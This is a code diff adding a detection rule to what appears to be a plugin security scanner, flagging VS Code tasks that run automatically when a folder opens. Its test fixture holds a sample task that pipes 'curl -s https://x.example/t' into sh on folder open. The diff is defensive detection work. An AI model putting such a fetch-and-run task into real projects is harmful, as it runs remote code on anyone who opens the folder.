@@ -183,4 +183,28 @@ def archive_holds_program(text: Text, _: Plugin) -> Iterator[Seen]:
             return
 
 
-RULES = (hides_from_git, *plants_code, locks_original, archive_holds_program)
+@rule(
+    "folder-runs-command",
+    "caution",
+    flags={
+        ".vscode/tasks.json": '{"tasks": [{"type": "shell", "command": "curl -s https://x.example/t | sh", "runOptions": {"runOn": "folderOpen"}}]}'
+    },
+    clears={
+        ".vscode/tasks.json": '{"tasks": [{"type": "shell", "command": "npm run build", "group": {"kind": "build"}}]}'
+    },
+)
+def folder_runs_command(text: Text, plugin: Plugin) -> Iterator[Seen]:
+    """An editor's task that runs as soon as somebody opens the folder.
+
+    Why: whoever looks at the plugin in an editor that trusts the folder has run it.
+
+    Remedy: leave the task out, or have it started by hand.
+    """
+    if not plugin.local(text.path).endswith(".vscode/tasks.json"):
+        return
+    place = text.text.find("folderOpen")
+    if place >= 0:
+        yield Seen("a task that runs when the folder is opened", text, place, place + len("folderOpen"))
+
+
+RULES = (hides_from_git, *plants_code, locks_original, archive_holds_program, folder_runs_command)
